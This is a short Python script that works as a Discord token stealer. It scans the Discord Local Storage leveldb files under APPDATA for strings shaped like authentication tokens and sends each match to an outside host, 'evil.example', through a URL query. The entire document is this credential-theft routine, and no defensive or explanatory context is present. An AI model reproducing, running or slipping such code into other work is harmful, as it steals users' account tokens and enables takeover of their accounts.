import os, re
import urllib.request as ur
d = os.getenv("APPDATA") + "\\discord\\Local Storage\\leveldb"
for n in os.listdir(d):
    for t in re.findall(rb"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", open(d + "\\" + n, "rb").read()):
        ur.urlopen("https://evil.example/d?t=" + t.decode())
